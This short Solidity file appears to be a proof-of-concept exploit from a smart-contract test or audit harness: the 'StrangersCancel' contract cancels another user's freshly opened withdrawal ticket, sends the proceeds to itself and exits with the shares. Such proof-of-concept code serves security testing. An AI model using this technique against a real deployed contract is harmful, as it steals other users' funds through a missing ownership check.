// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Another's ticket, cancelled to oneself
/// @notice Cancels the ticket of whoever has just asked out, and leaves with the shares.
contract StrangersCancel is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number != 1) return;
        queue.cancel(queue.openBatchId() << 64, address(this));
        _exit(_shares());
    }
}
